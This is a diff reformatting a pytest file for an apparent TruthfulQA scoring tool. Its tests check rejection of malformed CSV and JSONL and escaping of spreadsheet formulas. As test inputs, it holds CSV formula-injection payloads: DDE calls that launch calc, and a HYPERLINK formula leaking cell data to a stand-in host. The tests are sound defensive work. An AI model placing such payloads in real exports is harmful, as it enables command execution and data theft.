@@ -22,7 +22,8 @@ import pytest
 from tests.view_runs import qa_run
 
 TRUTHFULQA = Path(__file__).resolve().parents[1] / "../shared/data/truthfulqa/TruthfulQA.csv"
-needs_truthfulqa = pytest.mark.skipif(not TRUTHFULQA.exists(), reason="TruthfulQA CSV not next to the repository")
+needs_truthfulqa = pytest.mark.skipif(not TRUTHFULQA.exists(),
+                                      reason="TruthfulQA CSV not next to the repository")
 UMASK = 0o027  # not the usual 0022, so a mode that ignores it (0600, 0644) cannot pass by chance
 
 
@@ -62,17 +63,20 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @needs_truthfulqa
 @pytest.mark.parametrize(("name", "text", "expected"), [
-    # row 1 of 3 opens a quote it never closes: before, rows 2 and 3 became part of its answer (1 scored, exit 0)
+    # row 1 of 3 opens a quote it never closes: before, rows 2 and 3 became its answer (1 scored, exit 0)
     ("open.csv", 'id,answer\ntruthfulqa-0,"Nothing happens.\ntruthfulqa-1,Japan\ntruthfulqa-2,Blue\n',
      "open.csv:2: not valid CSV: unexpected end of data (a quote opened on this line is never closed)"),
     ("stray.csv", 'id,answer\ntruthfulqa-0,"Nothing" happens\n', "stray.csv:2: not valid CSV"),
-    ("surrogate.jsonl", '{"id": "truthfulqa-0", "answer": "ok"}\n{"id": "truthfulqa-1", "answer": "a\\ud800"}\n',
+    ("surrogate.jsonl", '{"id": "truthfulqa-0", "answer": "ok"}\n'
+                        '{"id": "truthfulqa-1", "answer": "a\\ud800"}\n',
      "surrogate.jsonl:2: answer: a lone UTF-16 surrogate (\\ud800-\\udfff) is not text"),
     ("deep.jsonl", '{"id": "truthfulqa-0", "answer": "x", "meta": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
      "deep.jsonl:1: JSON nested deeper than 64 levels"),
-    ("blank.jsonl", '{"id": "truthfulqa-0", "answer": "x"}\n{"question": "\\u200b\\u200b\\u00a0", "answer": "x"}\n',
+    ("blank.jsonl", '{"id": "truthfulqa-0", "answer": "x"}\n'
+                    '{"question": "\\u200b\\u200b\\u00a0", "answer": "x"}\n',
      "blank.jsonl:2: the 'question' cell holds only invisible characters"),
-    ("blank.csv", "question,answer\n\t\u2060\u00a0,yes\n", "blank.csv:2: the 'question' cell holds only invisible"),
+    ("blank.csv", "question,answer\n\t\u2060\u00a0,yes\n",
+     "blank.csv:2: the 'question' cell holds only invisible"),
 ])
 def test_score_refuses_malformed_answers_with_file_and_line(tmp_path, name, text, expected):
     path = tmp_path / name
@@ -84,11 +88,13 @@ def test_score_refuses_malformed_answers_with_file_and_line(tmp_path, name, text
 
 @needs_truthfulqa
 def test_scores_csv_escapes_formulas_and_keeps_numbers(tmp_path):
-    answers = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C x'!A0",
+    answers = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
+               "@SUM(1+1)*cmd|' /C x'!A0",
                "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTab first"]
     rows = [{"id": f"truthfulqa-{i}", "answer": a} for i, a in enumerate(answers)]
     # a false reference's words: its diff (max_true - max_false) is negative
-    rows.append({"question": "Where did fortune cookies originate?", "answer": "Fortune cookies originated in Japan"})
+    rows.append({"question": "Where did fortune cookies originate?",
+                 "answer": "Fortune cookies originated in Japan"})
     (tmp_path / "a.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
     done = a2c("score", "a.jsonl", "-s", "rouge1", "--path", str(TRUTHFULQA), cwd=tmp_path)
     assert done.returncode == 0, done.stderr
@@ -125,11 +131,14 @@ def test_view_refuses_to_overwrite_what_a_run_reads_back(tmp_path, run):
 
 
 @pytest.mark.parametrize(("argv", "expected"), [
-    (("compare", "{run}", "-o", "{run}/generations.jsonl"), "-o {run}/generations.jsonl: is a file, not a folder"),
-    (("metrics", "rc-plot", "--bundles", "3", "--out", "{run}/config.yaml"), "--out {run}/config.yaml: a2c reads"),
+    (("compare", "{run}", "-o", "{run}/generations.jsonl"),
+     "-o {run}/generations.jsonl: is a file, not a folder"),
+    (("metrics", "rc-plot", "--bundles", "3", "--out", "{run}/config.yaml"),
+     "--out {run}/config.yaml: a2c reads"),
     (("probe", "Why?", "--json", "{run}/run.json"), "--json {run}/run.json: a2c reads this file back"),
     (("probe", "Why?", "--json", "{run}"), "--json {run}: is a folder, not a file"),
-    (("models", "prepare", "--output", "{run}/report.md"), "--output {run}/report.md: is a file, not a folder"),
+    (("models", "prepare", "--output", "{run}/report.md"),
+     "--output {run}/report.md: is a file, not a folder"),
 ])
 def test_every_output_flag_refuses_a_run_file(tmp_path, run, argv, expected):
     before = digests(run)
@@ -150,8 +159,8 @@ def test_view_writes_its_own_file_with_the_umask_and_run_files_follow_it(tmp_pat
 
 
 def test_compare_csv_escapes_run_labels(tmp_path, run):
-    done = a2c("compare", str(run), str(run), "--label", "=HYPERLINK(\"http://x.example\")", "--label", "@evil",
-               "-o", "out", cwd=tmp_path)
+    done = a2c("compare", str(run), str(run), "--label", "=HYPERLINK(\"http://x.example\")",
+               "--label", "@evil", "-o", "out", cwd=tmp_path)
     assert done.returncode == 0, done.stderr
     with (tmp_path / "out" / "compare.csv").open(newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
